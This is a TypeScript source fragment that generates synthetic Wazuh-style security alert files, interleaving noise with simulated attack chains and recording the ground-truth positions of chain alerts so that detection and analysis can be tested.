/** What an analyst would search for in chain `index`: its user, attacker address and first host. */
export function chainIndicators(options: GeneratorOptions, index: number): { user: string; attackerIp: string; host: string } {
  const r = resolve(options);
  const plan = planChain(r.world, r.seed, index, r.timeline);
  return { user: plan.user, attackerIp: plan.attackerIp, host: plan.hosts[0].name };
}

/** Writes the main file: noise plus the attack chains, in time order. */
export function generateAlertsFile(path: string, options: GeneratorOptions): GenerateResult {
  const r = resolve(options);
  const chainEventsAll: ChainEvent[] = [];
  for (let c = 0; c < r.chains; c++) chainEventsAll.push(...chainEvents(planChain(r.world, r.seed, c, r.timeline), r.seed));
  return writeMerged(path, r, chainEventsAll, r.seed, 0);
}

/**
 * Writes `count` new alerts for an incremental run over a store holding the
 * main file generated with the same options: continuations of about a third
 * of its chains, new chains, and noise, interleaved in the same period.
 */
export function generateNewAlertsFile(path: string, count: number, options: GeneratorOptions): GenerateResult {
  const r = resolve(options);
  const events: ChainEvent[] = [];
  for (let c = 0; c < r.chains; c++) {
    if (c % 3 !== 0) continue;
    const plan = planChain(r.world, r.seed, c, r.timeline);
    const main = chainEvents(plan, r.seed);
    events.push(...chainContinuation(plan, r.seed, main[main.length - 1]!.t));
  }
  const newChains = Math.max(2, Math.round(count / 1000));
  for (let c = r.chains; c < r.chains + newChains; c++) events.push(...chainEvents(planChain(r.world, r.seed, c, r.timeline), r.seed));
  return writeMerged(path, { ...r, alerts: count, chains: newChains }, events, r.seed + 7919, 1e12);
}

function writeMerged(path: string, r: Resolved, chainEventsAll: ChainEvent[], noiseSeed: number, idOffset: number): GenerateResult {
  const started = performance.now();
  chainEventsAll.sort((a, b) => a.t - b.t || a.chain - b.chain);
  const noiseCount = Math.max(0, r.alerts - chainEventsAll.length);
  const out = new AlertFileWriter(path, idOffset + 1);
  const factory = new AlertFactory(out, r.world);
  const rng = new Rng(noiseSeed);
  const chainAlerts: ChainTruth[] = [];
  let next = 0;
  const emitChainsUntil = (t: number) => {
    while (next < chainEventsAll.length && chainEventsAll[next]!.t <= t) {
      const e = chainEventsAll[next++]!;
      chainAlerts.push({ chain: e.chain, line: out.lines + 1, wazuhId: out.nextId(e.t) });
      out.write(e.build(factory));
    }
  };
  try {
    for (let i = 0; i < noiseCount; i++) {
      const t = r.timeline.at((i + rng.float()) / noiseCount);
      emitChainsUntil(t);
      out.write(makeNoise(factory, t, rng));
      if (r.onProgress && (i & 0xffff) === 0xffff) r.onProgress(out.lines);
    }
    emitChainsUntil(Number.POSITIVE_INFINITY);
  } finally {
    out.close();
  }
  return { path, alerts: out.lines, bytes: out.bytes, chains: r.chains, chainAlerts, ms: performance.now() - started };
}
